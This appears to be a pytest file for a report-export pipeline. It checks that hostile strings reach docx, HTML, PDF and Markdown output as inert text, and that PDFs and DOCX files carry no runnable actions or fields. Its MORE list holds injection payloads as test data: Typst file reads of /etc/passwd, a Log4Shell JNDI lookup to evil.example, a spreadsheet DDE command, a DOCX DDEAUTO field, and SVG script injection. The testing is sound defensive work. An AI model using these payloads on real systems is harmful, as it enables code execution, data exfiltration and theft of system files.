"""T22: what people and databases wrote is text in every output, wherever in the summary it stands."""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pikepdf
import pytest
from docx.oxml.ns import qn
from lxml import etree, html

from pipeline.export.blocks import clean
from pipeline.export.document import Author, Document, OtherPlace, SearchAccount, Summary, compose
from pipeline.export.docx import to_docx
from pipeline.export.html import to_html
from pipeline.export.markdown import to_markdown
from pipeline.export.pdf import to_pdf
from pipeline.flow_counts import FlowCounts
from pipeline.summarise import Finding
from tests.pipeline.export import reading
from tests.pipeline.export.samples import ATTACKS, TEMPLATE, WORDING
from tests.pipeline.export.test_structure import squeezed

MORE = (
    '#eval("1+1")',
    '#image("/etc/passwd")',
    '#read("/etc/passwd")',
    '#import "@preview/cetz:0.3.0"',
    "#sys.inputs",
    "= Overskrift",
    "$x^2$ $ sum $",
    "*fet* _kursiv_ `kode` @ref <merke>",
    "// kommentar /* mer */",
    '"]; #panic() [',
    '\\", "kind": "heading',
    "\\u{41} \\x41 %41 &#65;",
    "{% raw %}{{ config }}",
    "${jndi:ldap://evil.example/a}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<w:p/><w:instrText>DDEAUTO</w:instrText>",
    "<svg onload=alert(1)>",
    "<![CDATA[x]]>",
    "a\u200fb\u200ec\u202ed\u2066e",  # marks and overrides that turn the direction
    "\x00\x08\x0b\x1b[31mrød\x7f",
    "s" * 400,
    "Ø" * 400,
    "https://evil.example/" + "a-b_c/" * 60,
)
EVERY = (*ATTACKS, *MORE)


def summary(attack: str) -> Summary:
    """One attack wherever a person, a file or a database can put it."""
    return Summary(
        title=f"Tittel {attack}",
        question=attack,
        elements=(("Populasjon", attack),),
        sections={section.id: f"Før {attack} etter" for section in TEMPLATE.sections if section.typed},
        findings=(Finding("f", attack, attack, "reduces", "large", attack, "low", attack, sentence=attack),),
        searches=(SearchAccount("PubMed", attack, warnings=(attack,)),),
        other_places=(OtherPlace(attack, attack, result=attack),),
        flow=FlowCounts(identified=((attack, 1),), screened=1),
        references=(attack,),
        authors=(Author(attack, attack),),
        date="2026-11-21",
    )


def of_markdown(document: Document) -> str:
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    reader = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    return reading.said(html.document_fromstring(reader.render(to_markdown(document))))


SHOWN: dict[str, Callable[[Document], str]] = {
    "docx": lambda document: reading.of_docx(to_docx(document)).text,
    "html": lambda document: reading.of_html(to_html(document).encode()).text,
    "pdf": lambda document: reading.of_pdf(to_pdf(document)).text,
    "markdown": of_markdown,
}


@pytest.mark.parametrize("attack", EVERY, ids=lambda one: repr(one)[1:31])
@pytest.mark.parametrize("to", SHOWN)
def test_an_attack_is_shown_as_the_text_it_is(to: str, attack: str) -> None:
    shown = squeezed(SHOWN[to](compose(summary(attack), TEMPLATE, WORDING)))
    wanted = squeezed(clean(attack))
    assert f"Tittel{wanted}" in shown and f"Før{wanted}etter" in shown
    assert shown.count(wanted) >= 10


@pytest.fixture(scope="module")
def pdf() -> bytes:
    return to_pdf(compose(summary(" ".join(EVERY)), TEMPLATE, WORDING))


def test_pdf_has_nothing_that_runs(pdf: bytes) -> None:
    with pikepdf.open(BytesIO(pdf)) as file:
        assert not {"/OpenAction", "/AA", "/AcroForm", "/AF"} & set(file.Root.keys())
        assert "/JavaScript" not in file.Root.get("/Names", {}) and not file.attachments
        notes = [note for page in file.pages for note in page.get("/Annots", [])]
        assert {str(note.A.S) for note in notes} <= {"/URI"}
        assert all(re.match(r"https?://", str(note.A.URI)) for note in notes)
        names = {str(one.S) for one in reading.elements(file)}
    known = "Document H1 H2 H3 P Span L LI Lbl LBody Table Caption THead TBody TR TH TD Figure Link Strong Em Div"
    assert names <= {f"/{name}" for name in known.split()}


def test_pdf_reads_no_file(pdf: bytes) -> None:
    passwords = Path("/etc/passwd")
    if not passwords.exists():
        pytest.skip("no /etc/passwd here")
    first = passwords.read_text(encoding="utf-8").splitlines()[0]
    assert squeezed(first) not in squeezed(reading.of_pdf(pdf).text)


def test_pdf_breaks_long_words_instead_of_leaving_the_page() -> None:
    """400 letters without a blank: in headings, text, tables and strategies no drawn line is longer than a page is wide."""
    for attack in (one for one in MORE if len(one) >= 380):
        drawn = reading.lines(to_pdf(compose(summary(attack), TEMPLATE, WORDING)))
        assert max(len(one) for one in drawn) <= 130
        assert not [one for one in drawn if len(one) > 60 and set(one) == {"Ø"}]


def test_docx_has_no_field_that_runs() -> None:
    file = ZipFile(BytesIO(to_docx(compose(summary(" ".join(EVERY)), TEMPLATE, WORDING))))
    for name in (one for one in file.namelist() if one.endswith(".xml")):
        root = etree.fromstring(file.read(name))
        assert not [one for one in root.iter() if etree.QName(one).localname in ("instrText", "object", "control")]
        fields = {one.get(qn("w:instr")) for one in root.iter(qn("w:fldSimple"))}
        assert fields <= {"PAGE", "NUMPAGES"}
    assert not [one for one in file.namelist() if one.endswith((".bin", ".vba")) or "embeddings" in one]
